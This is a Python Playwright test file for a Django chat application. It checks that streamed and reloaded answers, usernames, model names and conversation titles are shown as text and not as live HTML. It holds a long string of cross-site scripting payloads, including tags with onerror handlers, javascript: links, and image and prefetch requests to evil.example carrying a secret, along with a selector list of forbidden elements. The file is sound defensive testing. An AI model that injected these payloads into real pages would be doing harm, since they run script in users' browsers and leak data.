"""Whatever a model or a person writes: no dialog, no request to another host, streamed and reloaded."""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth import get_user_model
from playwright.sync_api import Page, expect

from chatsite.chat.models import Conversation
from tests.browser.steps import answer, ask, finish
from tests.browser.writing import begin_answer
from tests.conftest import Connect
from workers.models import Model

pytestmark = [pytest.mark.browser, pytest.mark.processes]


ATTACKS = """<script>alert(1)</script>

<img src=x onerror=alert(1)> <svg/onload=alert(1)>

[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](java&#10;script:alert(1)) [four](data:text/html,x)

<iframe srcdoc="<script>alert(1)</script>"></iframe>

![five](https://evil.example/?d=SECRET) ![six][ref]

[ref]: https://evil.example/?d=SECRET

<link rel=prefetch href=//evil.example/x><style>*{background:url(//evil.example/y)}</style>

```mermaid
click A "javascript:alert(1)"
```

```mermaid
graph LR; A["$$<img src=x onerror=alert(1)>$$"] --> B
```

$<img src=a onerror=alert(1)>%$ "><img src=x onerror=alert(1)>

$\\href{javascript:alert(1)}{x}$ and \\(\\text{<img src=x onerror=alert(1)>}\\) and $\\style{position:fixed}{y}$

$$
\\text{</math><script>alert(1)</script>}
$$

| <img src=x onerror=alert(1)> | <svg/onload=alert(1)> |
|---|---|
| [seven](vbscript:msgbox(1)) | <img srcset="https://evil.example/z 1x"> |

[^1]: <img src=x onerror=alert(1)> [eight](javascript:alert(1))

https://evil.example/ is only a link.
"""


FORBIDDEN = (
    "script, img, svg:not(.icon), iframe, link, style, object, embed, form, base, meta, [onerror], [onload], [style]"
)
# Looks at everything that is ever put into the answer, however shortly.
WATCH = """(forbidden) => {
  window.offences = [];
  new MutationObserver(() => {
    const answer = document.querySelector(".answer");
    for (const found of answer.querySelectorAll(forbidden)) window.offences.push(found.outerHTML);
    const elsewhere = answer.querySelectorAll("a[href]:not([href^=http], [href^='#fn'])");
    for (const link of elsewhere) window.offences.push(link.outerHTML);
  }).observe(document.getElementById("messages"), { childList: true, subtree: true, attributes: true });
}"""


def test_an_answer_that_comes_by_the_character_is_never_markup(page: Page, alice: Any) -> None:
    written = begin_answer(page, alice)
    page.evaluate(WATCH, FORBIDDEN)
    written.write(ATTACKS, seen=11)
    written.finish()
    expect(page.locator(".answer > .table")).to_have_count(1)
    assert page.evaluate("() => window.offences") == []


def test_an_answer_stays_text(page: Page, connect: Connect) -> None:
    connect("echo")
    reply = finish(ask(page, ATTACKS))
    for _ in ("streamed", "reloaded"):
        expect(answer(reply)).to_contain_text("<script>alert(1)</script>")
        expect(answer(reply).locator(FORBIDDEN)).to_have_count(0)
        expect(answer(reply).locator("a[href]:not([href^=http], [href^='#fn'])")).to_have_count(0)
        page.reload()


def test_an_answer_stays_text_while_it_is_open(page: Page, connect: Connect, provider: Any) -> None:
    connect("echo-gate10")
    reply = ask(page, "one two three **<img src=x onerror=alert(1)>** `<script>alert(1)</script>` a b c d e f g")
    expect(answer(reply).locator(".open strong")).to_have_text("<img src=x onerror=alert(1)>")
    expect(answer(reply).locator("img, script")).to_have_count(0)
    provider.release()
    finish(reply)


def test_names_and_titles_stay_text(page: Page, alice: Any, connect: Connect) -> None:
    attack = '"><img src=x onerror=alert(1)>'
    (model,) = connect("tokens2")
    Model.objects.filter(pk=model.pk).update(name=attack)
    get_user_model().objects.filter(pk=alice.pk).update(username=attack)
    page.reload()
    reply = finish(ask(page, f"{attack} hello, how are you?"))
    for _ in ("streamed", "reloaded"):
        expect(reply.locator(".why .model")).to_contain_text(attack)
        expect(page.locator("#title")).to_contain_text(attack)
        expect(page.locator("#conversations a").first).to_contain_text(attack)
        expect(page.locator(".person")).to_have_text(attack)
        expect(page.locator("img")).to_have_count(0)
        page.reload()
    # Nor does a conversation that comes without a new page bring any markup.
    page.get_by_role("link", name="New conversation").click()
    expect(page.locator(".welcome")).to_be_visible()
    page.locator("#conversations a").first.click()
    expect(page.locator("#title")).to_contain_text(attack)
    expect(page.locator("img")).to_have_count(0)
    assert Conversation.objects.get().title.startswith(attack)
